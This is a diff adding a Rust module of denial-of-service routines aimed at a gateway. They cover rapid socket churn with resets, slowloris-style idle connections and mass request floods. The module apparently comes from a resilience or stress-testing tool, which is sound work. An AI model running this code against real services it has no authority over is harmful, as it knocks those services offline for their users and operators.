@@ -1,0 +1,79 @@
+//! Attacks below WebSockets.
+
+use std::io::{self, ErrorKind, Write};
+use std::net::TcpStream;
+use std::sync::atomic::Ordering;
+use std::time::Duration;
+
+use socket2::SockRef;
+
+use super::payload::plain_requests;
+use super::{Attacker, PATIENCE, PAUSE, discard};
+
+impl Attacker {
+    /// Opens sockets and closes them at once, one after the other. A reset leaves no port behind that waits.
+    pub(super) fn churn(&self) -> io::Result<()> {
+        while !self.is_over() {
+            let stream = TcpStream::connect_timeout(&self.address, PATIENCE)?;
+            SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
+            self.sockets.fetch_add(1, Ordering::Relaxed);
+        }
+        Ok(())
+    }
+
+    /// Keeps so many sockets open and sends nothing; what the gateway closes is opened again.
+    pub(super) fn silent(&self, count: usize) -> io::Result<()> {
+        let mut sockets = Vec::new();
+        while !self.is_over() {
+            while sockets.len() < count && !self.is_over() {
+                sockets.push(self.connected()?);
+            }
+            sockets.retain_mut(|stream| discard(stream).is_ok());
+            std::thread::sleep(PAUSE);
+        }
+        Ok(())
+    }
+
+    pub(super) fn requests(&self, count: usize) -> io::Result<()> {
+        self.all_send(count, || self.connected(), &plain_requests())
+    }
+
+    /// Opens so many sockets. Then all send these bytes, and are read until they are closed.
+    pub(super) fn all_send(
+        &self,
+        count: usize,
+        open: impl Fn() -> io::Result<TcpStream>,
+        bytes: &[u8],
+    ) -> io::Result<()> {
+        let mut sockets = Vec::new();
+        for _ in 0..count {
+            let stream = open()?;
+            stream.set_nonblocking(true)?;
+            sockets.push((stream, 0));
+            if self.is_over() {
+                return Ok(());
+            }
+        }
+        while !sockets.is_empty() && !self.is_over() {
+            sockets.retain_mut(|(stream, at)| send_more(stream, bytes, at).is_ok());
+            std::thread::sleep(PAUSE);
+        }
+        Ok(())
+    }
+
+    fn connected(&self) -> io::Result<TcpStream> {
+        let stream = TcpStream::connect_timeout(&self.address, PATIENCE)?;
+        stream.set_nonblocking(true)?;
+        Ok(stream)
+    }
+}
+
+/// Writes what there is room for and reads what is there.
+fn send_more(stream: &mut TcpStream, bytes: &[u8], at: &mut usize) -> io::Result<()> {
+    match stream.write(&bytes[*at..]) {
+        Ok(len) => *at += len,
+        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+        Err(error) => return Err(error),
+    }
+    discard(stream)
+}
